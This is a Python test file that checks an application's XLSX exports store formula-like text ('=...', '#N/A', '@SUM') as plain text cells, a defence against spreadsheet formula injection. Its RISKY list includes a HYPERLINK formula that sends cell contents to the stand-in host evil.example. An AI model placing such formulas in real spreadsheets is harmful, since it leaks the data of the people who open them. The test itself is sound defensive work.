"""Every XLSX the application writes stores text that Excel or openpyxl would take for a
formula (`=...`) or an error (`#N/A`) as a text cell, through `core.exports.data_value`."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from typing import Any

import pytest

from thenchot.core.exports import Column, Sheet, workbook_bytes

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "#N/A", "+1-2", "@SUM(A1)"]


def _cells(data: bytes) -> list[tuple[Any, str]]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _list_export(value: str) -> bytes:
    return workbook_bytes([Sheet("s", [Column("Name", lambda row: row)], [value])])


def _plain_workbook(value: str) -> bytes:
    from openpyxl import Workbook

    from thenchot.core.exports import data_row

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(data_row(sheet, ["Name", value, 3, dt.date(2026, 3, 1)]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _report(value: str) -> bytes:
    from thenchot.reports.rendering import render_xlsx

    return render_xlsx(
        {"unit": value, "from": "2026-01-01", "to": "2026-03-31", "as_of": "2026-03-31"}
    )


def _discipline(value: str) -> bytes:
    from thenchot.discipline.exports import xlsx_bytes

    return xlsx_bytes(title="discipline", headers=["Name"], rows=[[value]])


def _inspections(value: str) -> bytes:
    from thenchot.inspections.exports import workbook_bytes as inspections_workbook

    return inspections_workbook([("inspections", [("Title", lambda row: row)], [value])])


WRITERS: dict[str, Callable[[str], bytes]] = {
    "core list export": _list_export,
    "any workbook through data_row": _plain_workbook,
    "report": _report,
    "discipline list": _discipline,
    "inspection list": _inspections,
}


@pytest.mark.django_db  # the report names its unit from the tree (an unknown code as given)
@pytest.mark.parametrize("writer", WRITERS)
def test_it_writes_formula_looking_text_as_a_text_cell(writer: str) -> None:
    for value in [*RISKY, "Nguyễn Văn An"]:
        cells = _cells(WRITERS[writer](value))
        assert (value, "s") in cells, value
        assert all(data_type not in ("f", "e") for _value, data_type in cells), value


def test_it_leaves_numbers_and_dates_typed_beside_text() -> None:
    cells = _cells(_plain_workbook("=1+1"))
    assert ("=1+1", "s") in cells
    assert (3, "n") in cells
    assert (dt.datetime(2026, 3, 1), "d") in cells


def test_it_drops_control_characters_that_no_xlsx_cell_can_hold() -> None:
    import io

    from openpyxl import Workbook, load_workbook

    from thenchot.core.exports import data_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(data_row(sheet, ["Nguyễn\x07 Văn\x00 A", "=\x01SUM(A1)"]))
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert row == ("Nguyễn Văn A", "=SUM(A1)")
